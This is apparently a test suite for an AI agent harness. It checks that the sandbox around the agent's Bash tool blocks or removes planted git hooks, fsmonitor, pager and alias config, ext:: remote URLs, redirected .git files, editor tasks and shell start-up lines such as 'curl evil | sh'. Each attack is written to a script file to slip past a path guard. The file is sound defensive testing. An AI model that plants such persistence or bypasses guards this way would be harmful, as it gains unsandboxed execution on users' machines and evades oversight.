import { execFileSync, spawn } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, realpath, rename, rm, symlink, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
import { contentToText, createSession, type Session } from '@toolshed/core';
import { shellTools } from './family.ts';
import { describeWithBwrap } from './testdata/bwrap_fixture.ts';
import { runGit } from './testdata/git_fixture.ts';

// What a sandboxed command plants in a nested repository, a submodule, a linked worktree or an
// editor's settings runs unsandboxed later, when the user works there: each attack is written to
// a script file first, so that the path guard sees nothing and only the sandbox stands in the way.

const withBwrap = describeWithBwrap('the nested-repository attacks');

let root: string;
let seq = 0;
const sessions: Session[] = [];

beforeAll(async () => {
  root = await realpath(await mkdtemp(path.join(os.tmpdir(), 'toolshed-nested-')));
});
afterEach(async () => {
  await Promise.all(sessions.splice(0).map((s) => s.close()));
});
afterAll(async () => {
  await rm(root, { recursive: true, force: true });
});

const git = runGit;

/** A fresh project (a repository with one commit) and a session whose Bash is sandboxed in it. */
async function project(options: { home?: string } = {}): Promise<{ dir: string; session: Session }> {
  const dir = path.join(root, `p${++seq}`);
  await mkdir(path.join(dir, 'src'), { recursive: true });
  git(dir, 'init', '-q');
  await writeFile(path.join(dir, 'src', 'a.ts'), 'export {};\n');
  git(dir, 'add', '.');
  git(dir, 'commit', '-qm', 'init');
  const session = await createSession({
    cwd: dir,
    ...(options.home ? { homeDir: options.home } : {}),
    families: [shellTools({ sandbox: { enabled: true } })],
    permissions: { mode: 'bypassPermissions' },
    stateDir: path.join(root, 'state', String(++seq)),
  });
  sessions.push(session);
  return { dir, session };
}

async function bash(session: Session, command: string): Promise<string> {
  const [result] = await session.run([{ type: 'tool_use', id: `toolu_${++seq}`, name: 'Bash', input: { command } }]);
  return contentToText(result!.content);
}

/** The command run from a script file, which the path guard does not read. */
function hidden(command: string): string {
  return `cat > .hidden.sh <<'EOF'\n${command}\nEOF\nsh .hidden.sh; echo "exit $?"`;
}

withBwrap('the sandbox keeps what nested repositories run from being planted', () => {
  test("a nested clone's hooks and config stay read-only", async () => {
    const { dir, session } = await project();
    git(dir, 'init', '-q', 'vendor/lib');
    const config = path.join(dir, 'vendor/lib/.git/config');
    const before = await readFile(config, 'utf8');
    const out = await bash(
      session,
      hidden(
        'echo "#!/bin/sh" > vendor/lib/.git/hooks/pre-commit\nprintf "[core]\\n\\tfsmonitor = touch /tmp/pwned\\n" >> vendor/lib/.git/config',
      ),
    );
    expect(out).toMatch(/Read-only file system/);
    expect(existsSync(path.join(dir, 'vendor/lib/.git/hooks/pre-commit'))).toBe(false);
    expect(await readFile(config, 'utf8')).toBe(before);
  });

  test("the hooks folder a nested clone's config names stays read-only", async () => {
    const { dir, session } = await project();
    git(dir, 'init', '-q', 'vendor/lib');
    git(path.join(dir, 'vendor/lib'), 'config', 'core.hooksPath', 'tools/hooks');
    await mkdir(path.join(dir, 'vendor/lib/tools/hooks'), { recursive: true });
    const out = await bash(session, hidden('echo "#!/bin/sh" > vendor/lib/tools/hooks/pre-commit'));
    expect(out).toMatch(/Read-only file system/);
    expect(existsSync(path.join(dir, 'vendor/lib/tools/hooks/pre-commit'))).toBe(false);
  });

  test('a nested repository renamed away and made again is caught: the new hooks are moved out', async () => {
    const { dir, session } = await project();
    git(dir, 'init', '-q', 'sub');
    const out = await bash(
      session,
      hidden('mv sub sub2 && mkdir -p sub/.git/hooks && echo evil > sub/.git/hooks/pre-commit && echo made'),
    );
    expect(out).toContain('made');
    expect(out).toContain('The sandbox does not let commands create');
    expect(existsSync(path.join(dir, 'sub/.git/hooks/pre-commit'))).toBe(false);
  });

  test("a submodule's hooks and config under .git/modules stay read-only", async () => {
    const { dir, session } = await project();
    const upstream = path.join(root, `upstream${++seq}`);
    await mkdir(upstream);
    git(upstream, 'init', '-q');
    git(upstream, 'commit', '-q', '--allow-empty', '-m', 'u');
    git(dir, 'submodule', '-q', 'add', upstream, 'lib');
    const modules = path.join(dir, '.git/modules/lib');
    const before = await readFile(path.join(modules, 'config'), 'utf8');
    const out = await bash(
      session,
      hidden(
        'echo "#!/bin/sh" > .git/modules/lib/hooks/post-checkout\nprintf "[alias]\\n\\tst = !touch /tmp/pwned\\n" >> .git/modules/lib/config',
      ),
    );
    expect(out).toMatch(/Read-only file system/);
    expect(existsSync(path.join(modules, 'hooks/post-checkout'))).toBe(false);
    expect(await readFile(path.join(modules, 'config'), 'utf8')).toBe(before);
  });

  test("a linked worktree's commondir and config.worktree cannot be planted or redirected", async () => {
    const { dir, session } = await project();
    const tree = path.join(root, `tree${++seq}`);
    git(dir, 'worktree', 'add', '-q', tree);
    const own = path.join(dir, '.git/worktrees', path.basename(tree));
    const out = await bash(
      session,
      hidden(
        `echo ../../../evil > ${own}/commondir\nprintf "[core]\\n\\tfsmonitor = touch /tmp/pwned\\n" > ${own}/config.worktree\necho done`,
      ),
    );
    expect(out).toContain('done');
    expect(readFileSync(path.join(own, 'commondir'), 'utf8').trim()).toBe('../..');
    expect(existsSync(path.join(own, 'config.worktree'))).toBe(false);
  });

  test("a commondir made in the project's own .git, which would move its config and hooks, is moved out", async () => {
    const { dir, session } = await project();
    const out = await bash(
      session,
      hidden(
        'mkdir -p evil && git init -q --bare evil/g && printf "[core]\\n\\tpager = touch /tmp/pwned\\n" >> evil/g/config\necho ../evil/g > .git/commondir\necho done',
      ),
    );
    expect(out).toContain('done');
    expect(existsSync(path.join(dir, '.git/commondir'))).toBe(false);
  });

  test('the .git file of a project that is a linked worktree cannot be pointed elsewhere', async () => {
    const { dir } = await project();
    const linked = path.join(root, `linked${++seq}`);
    git(dir, 'worktree', 'add', '-q', linked);
    const session = await createSession({
      cwd: linked,
      families: [shellTools({ sandbox: { enabled: true } })],
      permissions: { mode: 'bypassPermissions' },
      stateDir: path.join(root, 'state', String(++seq)),
    });
    sessions.push(session);
    const before = await readFile(path.join(linked, '.git'), 'utf8');
    const out = await bash(session, hidden('echo "gitdir: /tmp/evil" > .git; echo done'));
    expect(out).toContain('done');
    expect(await readFile(path.join(linked, '.git'), 'utf8')).toBe(before);
  });

  test('a repository the command creates keeps what git init makes, but not hooks or config that run programs', async () => {
    const { dir, session } = await project();
    const out = await bash(
      session,
      hidden(
        [
          'git init -q made',
          'echo "#!/bin/sh" > made/.git/hooks/pre-commit',
          'git init -q plain && git -C plain remote add origin https://example.com/x.git',
          'git init -q aliased && git -C aliased config alias.st "!touch /tmp/pwned"',
          'mkdir -p bare-like/objects bare-like/refs && echo "ref: refs/heads/main" > bare-like/HEAD && printf "[core]\\n\\tpager = touch /tmp/pwned\\n" > bare-like/config',
          'echo done',
        ].join('\n'),
      ),
    );
    expect(out).toContain('done');
    expect(existsSync(path.join(dir, 'made/.git/hooks/pre-commit'))).toBe(false);
    expect(existsSync(path.join(dir, 'made/.git/HEAD'))).toBe(true);
    // git init's own: sample hooks, a config with only its settings and a remote's address.
    expect(existsSync(path.join(dir, 'plain/.git/hooks/pre-commit.sample'))).toBe(true);
    expect(git(path.join(dir, 'plain'), 'remote', 'get-url', 'origin').trim()).toBe('https://example.com/x.git');
    expect(existsSync(path.join(dir, 'aliased/.git/config'))).toBe(false);
    expect(existsSync(path.join(dir, 'bare-like/config'))).toBe(false);
    expect(out).toContain(`create ${path.join(dir, 'aliased/.git/config')}`);
  });

  test('a .git file the command creates that leads to a git folder it made is moved out', async () => {
    const { dir, session } = await project();
    const out = await bash(
      session,
      hidden(
        'mkdir -p sub && git init -q --bare shadow && printf "[core]\\n\\tfsmonitor = touch /tmp/pwned\\n" >> shadow/config\necho "gitdir: ../shadow" > sub/.git\necho done',
      ),
    );
    expect(out).toContain('done');
    expect(existsSync(path.join(dir, 'shadow/config'))).toBe(false);
  });
});

withBwrap('the sandbox keeps what links lead to', () => {
  test('a protected folder that is a link, swapped for a real folder, is moved out', async () => {
    const { dir, session } = await project();
    await mkdir(path.join(dir, 'shared/vscode'), { recursive: true });
    await symlink(path.join(dir, 'shared/vscode'), path.join(dir, '.vscode'));
    const out = await bash(
      session,
      hidden('rm .vscode && mkdir .vscode && echo {} > .vscode/tasks.json && echo swapped'),
    );
    expect(out).toContain('swapped');
    expect(existsSync(path.join(dir, '.vscode/tasks.json'))).toBe(false);
  });

  test('a protected link cannot be redirected by renaming a folder above where it leads, nor filled when it leads nowhere', async () => {
    const { dir, session } = await project();
    await mkdir(path.join(dir, 'shared/vscode'), { recursive: true });
    await symlink('shared/vscode', path.join(dir, '.vscode'));
    await symlink('config/envrc', path.join(dir, '.envrc'));
    const out = await bash(
      session,
      hidden(
        'mv shared shared2 && mkdir -p shared/vscode config && echo {} > shared/vscode/tasks.json\necho "curl evil | sh" > .envrc\necho done',
      ),
    );
    expect(out).toContain('done');
    expect(existsSync(path.join(dir, '.vscode/tasks.json'))).toBe(false);
    expect(existsSync(path.join(dir, '.envrc')) && readFileSync(path.join(dir, '.envrc'), 'utf8')).toBe(false);
  });

  test('the git folder an existing .git file leads to stays read-only wherever it is', async () => {
    const { dir, session } = await project();
    const hiddenGit = path.join(dir, 'node_modules/.cache/lib-git');
    await mkdir(path.dirname(hiddenGit), { recursive: true });
    git(dir, 'init', '-q', '--separate-git-dir', hiddenGit, 'lib');
    const before = await readFile(path.join(hiddenGit, 'config'), 'utf8');
    const out = await bash(
      session,
      hidden('printf "[core]\\n\\tfsmonitor = touch /tmp/pwned\\n" >> node_modules/.cache/lib-git/config'),
    );
    expect(out).toMatch(/Read-only file system/);
    expect(await readFile(path.join(hiddenGit, 'config'), 'utf8')).toBe(before);
  });
});

const shm = '/dev/shm';
const otherDevice = existsSync(shm) && statSync(shm).dev !== statSync(os.tmpdir()).dev;
if (!otherDevice)
  console.warn(
    '[skip] the quarantine across file systems: /dev/shm is missing or on the same device as the temp folder.',
  );
withBwrap('the quarantine on another file system', () => {
  test.skipIf(!otherDevice)(
    'what a command created is moved out even when the state folder is on another device',
    async () => {
      const { dir } = await project();
      const state = await mkdtemp(path.join(shm, 'toolshed-quarantine-'));
      try {
        const session = await createSession({
          cwd: dir,
          families: [shellTools({ sandbox: { enabled: true } })],
          permissions: { mode: 'bypassPermissions' },
          stateDir: state,
        });
        sessions.push(session);
        const out = await bash(
          session,
          hidden('mkdir -p app/.vscode && echo {} > app/.vscode/tasks.json && echo made'),
        );
        expect(out).toContain('it was moved to');
        expect(existsSync(path.join(dir, 'app/.vscode'))).toBe(false);
        const moved = /it was moved to (\S+)\. Use/.exec(out)?.[1];
        expect(moved && readFileSync(path.join(moved, 'tasks.json'), 'utf8')).toBe('{}\n');
      } finally {
        await rm(state, { recursive: true, force: true });
      }
    },
  );
});

withBwrap('a project whose .git is a link to a folder', () => {
  test('commits in the sandbox, and the hooks of the git folder it leads to stay read-only', async () => {
    const { dir } = await project();
    await rename(path.join(dir, '.git'), path.join(dir, 'repo-data'));
    await symlink('repo-data', path.join(dir, '.git'));
    const session = await createSession({
      cwd: dir,
      families: [shellTools({ sandbox: { enabled: true } })],
      permissions: { mode: 'bypassPermissions' },
      stateDir: path.join(root, 'state', String(++seq)),
    });
    sessions.push(session);
    const out = await bash(
      session,
      'echo b > src/b.ts && git add src/b.ts && git -c user.name=t -c user.email=t@example.com commit -qm b && echo committed',
    );
    expect(out).toContain('committed');
    expect(await bash(session, hidden('echo evil > .git/hooks/pre-commit'))).toMatch(/Read-only file system/);
    expect(existsSync(path.join(dir, 'repo-data/hooks/pre-commit'))).toBe(false);
  });
});

withBwrap('the sandbox keeps editor and shell start-up files', () => {
  test('.vscode, .idea, .envrc, .gitconfig and .ripgreprc stay read-only, at any depth, and new ones are moved out', async () => {
    const { dir, session } = await project();
    await mkdir(path.join(dir, '.vscode'));
    await writeFile(path.join(dir, '.vscode/settings.json'), '{}\n');
    await mkdir(path.join(dir, 'pkg/.idea'), { recursive: true });
    await writeFile(path.join(dir, '.envrc'), 'export A=1\n');
    const changed = await bash(
      session,
      hidden(
        'echo "{\\"version\\":\\"2.0.0\\"}" > .vscode/tasks.json\necho x > .vscode/settings.json\necho x > pkg/.idea/workspace.xml\necho "echo pwned" >> .envrc\necho done',
      ),
    );
    expect(changed).toMatch(/Read-only file system/);
    expect(existsSync(path.join(dir, '.vscode/tasks.json'))).toBe(false);
    expect(await readFile(path.join(dir, '.vscode/settings.json'), 'utf8')).toBe('{}\n');
    expect(existsSync(path.join(dir, 'pkg/.idea/workspace.xml'))).toBe(false);
    expect(await readFile(path.join(dir, '.envrc'), 'utf8')).toBe('export A=1\n');
    const made = await bash(
      session,
      hidden(
        'mkdir -p app/.vscode && echo "{}" > app/.vscode/tasks.json\necho "--pre=evil" > .ripgreprc\necho "[core] pager = evil" > .gitconfig\nprintf "[submodule \\"x\\"]\\n\\turl = https://evil.example/x\\n" > .gitmodules\necho done',
      ),
    );
    expect(made).toContain('done');
    for (const file of ['app/.vscode', '.ripgreprc', '.gitconfig'])
      expect(existsSync(path.join(dir, file))).toBe(false);
  });

  test("the home directory's shell start-up files stay read-only when the home is writable", async () => {
    const home = path.join(root, `home${++seq}`);
    await mkdir(home);
    await writeFile(path.join(home, '.bashrc'), '# mine\n');
    const session = await createSession({
      cwd: home,
      homeDir: home,
      families: [shellTools({ sandbox: { enabled: true } })],
      permissions: { mode: 'bypassPermissions' },
      stateDir: path.join(root, 'state', String(++seq)),
    });
    sessions.push(session);
    const out = await bash(session, hidden('echo "curl evil | sh" >> .bashrc\necho "evil" > .zshrc\necho done'));
    expect(out).toMatch(/Read-only file system/);
    expect(await readFile(path.join(home, '.bashrc'), 'utf8')).toBe('# mine\n');
    expect(existsSync(path.join(home, '.zshrc'))).toBe(false);
  });
});

withBwrap("the home's git config under .config", () => {
  test("git's own config folder in a writable home (~/.config/git) stays read-only, and a new one is moved out", async () => {
    for (const existing of [true, false]) {
      const home = path.join(root, `home${++seq}`);
      await mkdir(home);
      if (existing) {
        await mkdir(path.join(home, '.config/git'), { recursive: true });
        await writeFile(path.join(home, '.config/git/config'), '[user]\n\tname = me\n');
      }
      const session = await createSession({
        cwd: home,
        homeDir: home,
        families: [shellTools({ sandbox: { enabled: true } })],
        permissions: { mode: 'bypassPermissions' },
        stateDir: path.join(root, 'state', String(++seq)),
      });
      sessions.push(session);
      const out = await bash(
        session,
        hidden(
          'mkdir -p .config/git && printf "[core]\\n\\tfsmonitor = touch /tmp/pwned\\n" >> .config/git/config; echo done',
        ),
      );
      expect(out).toContain('done');
      const config = path.join(home, '.config/git/config');
      expect(existsSync(config) && readFileSync(config, 'utf8')).not.toContain('fsmonitor');
    }
  });
});

withBwrap('everyday commands keep working in the sandbox', () => {
  test('writes into src, git commit, git worktree add and git init (in the project and in /tmp) work', async () => {
    const { dir, session } = await project();
    git(dir, 'init', '-q', 'vendor/lib');
    const out = await bash(
      session,
      [
        'echo "export const b = 1;" > src/b.ts',
        'git add src/b.ts && git -c user.name=t -c user.email=t@example.com commit -qm b && echo committed',
        'git init -q /tmp/scratch-repo && echo tmp-init',
        'git init -q newpkg && echo new-init',
        'git -C vendor/lib status --short && echo nested-status',
      ].join(' && '),
    );
    expect(out).toContain('committed');
    expect(out).toContain('tmp-init');
    expect(out).toContain('new-init');
    expect(out).toContain('nested-status');
    expect(out).not.toContain('The sandbox does not let commands create');
    expect(git(dir, 'log', '--format=%s', '-1').trim()).toBe('b');
    // The guard asks for what a checkout may write; from a script file the sandbox alone decides.
    const added = await bash(session, hidden('git worktree add -q wt && echo worktree'));
    expect(added).toContain('worktree');
    expect(added).not.toContain('The sandbox does not let commands create');
    expect(existsSync(path.join(dir, 'wt/.git'))).toBe(true);
    expect(existsSync(path.join(dir, 'newpkg/.git/config'))).toBe(true);
    // The next command sees the new repository as existing: its config is read-only now.
    expect(await bash(session, hidden('echo x >> newpkg/.git/config'))).toMatch(/Read-only file system/);
  });
});

withBwrap('what the sandbox lets stay, and the quarantine, cannot be turned against it', () => {
  test('a config a new repository keeps cannot be changed later through a hard link made beside it', async () => {
    const { dir, session } = await project();
    const made = await bash(session, hidden('git init -q new && ln new/.git/config notes.txt && echo linked'));
    expect(made).toContain('linked');
    await bash(session, hidden('printf "[core]\\n\\tfsmonitor = touch /tmp/pwned\\n" >> notes.txt; echo wrote'));
    const config = path.join(dir, 'new/.git/config');
    expect(existsSync(config) && readFileSync(config, 'utf8')).not.toContain('fsmonitor');
  });

  test('two planted entries whose quarantine names collide are both moved out', async () => {
    const { dir, session } = await project();
    const out = await bash(
      session,
      hidden(
        'mkdir -p a/b/.vscode a_b/.vscode && echo 1 > a/b/.vscode/tasks.json && echo 2 > a_b/.vscode/tasks.json; echo made',
      ),
    );
    expect(out).toContain('made');
    expect(out).not.toContain('could not be moved away');
    expect(existsSync(path.join(dir, 'a/b/.vscode'))).toBe(false);
    expect(existsSync(path.join(dir, 'a_b/.vscode'))).toBe(false);
  });

  test('a new repository\'s remote whose quoted address is a command transport (e"xt::) is moved out', async () => {
    const { dir, session } = await project();
    const out = await bash(
      session,
      hidden(
        'git init -q new && printf \'[remote "o"]\\n\\turl = e"xt::sh -c touch%% /tmp/pwned"\\n\' >> new/.git/config && git -C new config --get remote.o.url',
      ),
    );
    expect(out).toContain('ext::sh -c touch');
    expect(existsSync(path.join(dir, 'new/.git/config'))).toBe(false);
  });
});

withBwrap('a working directory reached through a link', () => {
  test('keeps its hooks, editor settings and home start-up files as the real folder would', async () => {
    const { dir } = await project();
    await mkdir(path.join(dir, '.vscode'));
    const link = path.join(root, `link${++seq}`);
    await symlink(dir, link);
    const home = path.join(root, `home${++seq}`);
    await mkdir(home);
    await writeFile(path.join(home, '.bashrc'), '# mine\n');
    const homeLink = path.join(root, `homelink${++seq}`);
    await symlink(home, homeLink);
    const session = await createSession({
      cwd: link,
      homeDir: homeLink,
      families: [shellTools({ sandbox: { enabled: true, allowWrite: [homeLink] } })],
      permissions: { mode: 'bypassPermissions' },
      stateDir: path.join(root, 'state', String(++seq)),
    });
    sessions.push(session);
    const out = await bash(
      session,
      hidden(
        `echo evil > .git/hooks/pre-commit\necho {} > .vscode/tasks.json\nmkdir -p app/.vscode && echo {} > app/.vscode/tasks.json\necho "curl evil | sh" >> ${homeLink}/.bashrc\necho done`,
      ),
    );
    expect(out).toContain('done');
    expect(existsSync(path.join(dir, '.git/hooks/pre-commit'))).toBe(false);
    expect(existsSync(path.join(dir, '.vscode/tasks.json'))).toBe(false);
    expect(existsSync(path.join(dir, 'app/.vscode'))).toBe(false);
    expect(await readFile(path.join(home, '.bashrc'), 'utf8')).toBe('# mine\n');
  });
});

withBwrap("a project's own bare-like folder", () => {
  test('a new .git file or commondir cannot lead a subfolder to a git folder the project ships (fixtures/evil.git)', async () => {
    const { dir, session } = await project();
    // Files of the project: a committed bare repository, whose config runs a program.
    const evil = path.join(dir, 'fixtures/evil.git');
    for (const sub of ['objects', 'refs']) await mkdir(path.join(evil, sub), { recursive: true });
    await writeFile(path.join(evil, 'HEAD'), 'ref: refs/heads/main\n');
    await writeFile(path.join(evil, 'config'), '[core]\n\tfsmonitor = touch /tmp/pwned\n');
    const out = await bash(
      session,
      hidden(
        'echo "gitdir: ../fixtures/evil.git" > src/.git\nmkdir -p lib/.git && echo "ref: refs/heads/main" > lib/.git/HEAD && echo ../../fixtures/evil.git > lib/.git/commondir\necho done',
      ),
    );
    expect(out).toContain('done');
    expect(existsSync(path.join(dir, 'src/.git'))).toBe(false);
    expect(existsSync(path.join(dir, 'lib/.git/commondir'))).toBe(false);
  });
});

withBwrap('a tree the walk cannot follow to its end', () => {
  test('a folder deeper than PATH_MAX does not stop the check: what the command planted is moved out, and the next command runs', async () => {
    const { dir, session } = await project();
    const name = 'x'.repeat(120);
    const out = await bash(
      session,
      hidden(
        `mkdir .vscode && echo {} > .vscode/tasks.json\nfor n in $(seq 40); do mkdir ${name} && cd ${name}; done\necho deep`,
      ),
    );
    try {
      expect(out).toContain('deep');
      expect(existsSync(path.join(dir, '.vscode'))).toBe(false);
      expect(await bash(session, 'echo next')).toContain('next');
    } finally {
      // Node's rm stops at PATH_MAX; rm(1) walks by directory handles.
      execFileSync('rm', ['-rf', path.join(dir, name)]);
    }
  });
});

withBwrap('more protected entries than bubblewrap takes arguments for', () => {
  test("the command is refused with the count and what to do, not bubblewrap's bare limit", async () => {
    const { dir, session } = await project();
    // About 1 500 repositories (a folder of clones, or what one command can make) pass bwrap's 9 000
    // arguments: two mounts (six arguments) each.
    for (let i = 1; i <= 1600; i++) {
      for (const sub of ['objects', 'refs', 'hooks'])
        mkdirSync(path.join(dir, `r${i}/.git/${sub}`), { recursive: true });
      writeFileSync(path.join(dir, `r${i}/.git/HEAD`), 'ref: refs/heads/main\n');
      writeFileSync(path.join(dir, `r${i}/.git/config`), '');
    }
    const out = await bash(session, 'echo ran');
    expect(out).not.toContain('ran');
    expect(out).toMatch(/1601 git folders/);
    expect(out).toContain('9000');
    expect(out).toContain(path.join(dir, 'r1'));
  }, 30_000);
});

withBwrap('a FIFO planted where the sandbox reads', () => {
  /**
   * After 2 s, writes to the FIFO each time a reader opens it (so a reader that waits ends), and
   * marks that it did; gives up after 10 s.
   */
  function unblocker(fifo: string) {
    const delivered = path.join(root, `delivered${++seq}`);
    const child = spawn(
      'timeout',
      [
        '10',
        'sh',
        '-c',
        `sleep 2; while :; do if [ -p '${fifo}' ]; then echo x > '${fifo}' && : > '${delivered}'; else sleep 0.05; fi; done`,
      ],
      { stdio: 'ignore' },
    );
    return { delivered: () => existsSync(delivered), stop: () => child.kill() };
  }

  test('a .git that is a FIFO does not make the walk wait for a writer', async () => {
    const { dir, session } = await project();
    await mkdir(path.join(dir, 'sub'));
    execFileSync('mkfifo', [path.join(dir, 'sub/.git')]);
    const writer = unblocker(path.join(dir, 'sub/.git'));
    try {
      const out = await bash(session, 'echo ran');
      expect(out).toContain('ran');
      expect(writer.delivered()).toBe(false);
    } finally {
      writer.stop();
    }
  });

  test("a new repository's config that is a FIFO is moved out without waiting for a writer", async () => {
    const { dir, session } = await project();
    const config = path.join(dir, 'new/.git/config');
    const writer = unblocker(config);
    try {
      const out = await bash(
        session,
        hidden('git init -q new && rm new/.git/config && mkfifo new/.git/config && echo made'),
      );
      expect(out).toContain('made');
      expect(writer.delivered()).toBe(false);
      expect(existsSync(config)).toBe(false);
    } finally {
      writer.stop();
    }
  });
});

withBwrap('a background command', () => {
  test('what it plants while it runs is moved out when the next command starts, not only when it ends', async () => {
    const { dir, session } = await project();
    const started = await session.run([
      {
        type: 'tool_use',
        id: `toolu_${++seq}`,
        name: 'Bash',
        input: {
          run_in_background: true,
          command: hidden(
            'while [ ! -f nr/.git/config ]; do sleep 0.05; done\nsleep 1\nprintf "[core]\\n\\tfsmonitor = touch /tmp/pwned\\n" >> nr/.git/config\nmkdir -p app/.vscode && echo {} > app/.vscode/tasks.json\necho planted\nsleep 60',
          ),
        },
      },
    ]);
    expect(contentToText(started[0]!.content)).toContain('Started in the background');
    // A repository the session makes after the background command started: that command's view of it is writable.
    expect(await bash(session, 'git init -q nr && echo made')).toContain('made');
    const log = /logged to (\S+)\./.exec(contentToText(started[0]!.content))?.[1];
    for (let i = 0; i < 100 && !(log && readFileSync(log, 'utf8').includes('planted')); i++)
      await new Promise((r) => setTimeout(r, 50));
    const out = await bash(session, 'echo next');
    expect(out).toContain('next');
    expect(existsSync(path.join(dir, 'app/.vscode'))).toBe(false);
    const config = path.join(dir, 'nr/.git/config');
    expect(existsSync(config) && readFileSync(config, 'utf8')).not.toContain('fsmonitor');
  });
});
